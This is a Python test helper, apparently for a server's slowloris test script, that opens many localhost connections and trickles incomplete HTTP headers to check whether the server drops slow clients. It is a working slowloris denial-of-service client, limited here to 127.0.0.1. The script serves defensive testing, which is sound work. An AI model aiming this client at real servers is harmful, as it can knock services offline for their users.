# A slowloris client for test-slowloris.sh: opens N connections to
# 127.0.0.1:PORT and trickles request header bytes, one per connection
# per second, never ending the headers.  For ATTACK seconds every
# connection the server closes is opened again; then it only trickles
# and waits (at most WAIT seconds) for the server to close the rest.
# Writes "ready" to READY_FILE once the first N connections were tried
# (or 20 s went by), and prints: opened=, closed=, open_at_end=.
import errno
import resource
import select
import socket
import sys
import time

port, n, attack, wait = (int(a) for a in sys.argv[1:5])
ready_file = sys.argv[5]
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
HEAD = b"GET /feed.atom HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "

opened = closed = 0
conns = {}  # socket -> bytes sent


def connect():
    global opened
    s = socket.socket()
    s.settimeout(0.5)
    try:
        s.connect(("127.0.0.1", port))
    except OSError:
        s.close()
        return
    s.setblocking(False)
    conns[s] = 0
    opened += 1


def trickle(s):
    """Send the next byte; False if the server closed the connection."""
    sent = conns[s]
    byte = HEAD[sent:sent + 1] or b"a"
    try:
        r, _, _ = select.select([s], [], [], 0)
        if r and s.recv(1024) == b"":
            return False
        s.send(byte)
    except OSError as e:
        if e.errno in (errno.EAGAIN, errno.EWOULDBLOCK):
            return True
        return False
    conns[s] = sent + 1
    return True


begin = time.monotonic()
for _ in range(n):
    if time.monotonic() - begin > 20:
        break
    connect()
with open(ready_file, "w") as f:
    f.write("ready\n")
start = time.monotonic()
while conns and time.monotonic() - start < attack + wait:
    attacking = time.monotonic() - start < attack
    for s in list(conns):
        if not trickle(s):
            del conns[s]
            s.close()
            closed += 1
            if attacking:
                connect()
    time.sleep(1)
print("opened=%d closed=%d open_at_end=%d" % (opened, closed, len(conns)))
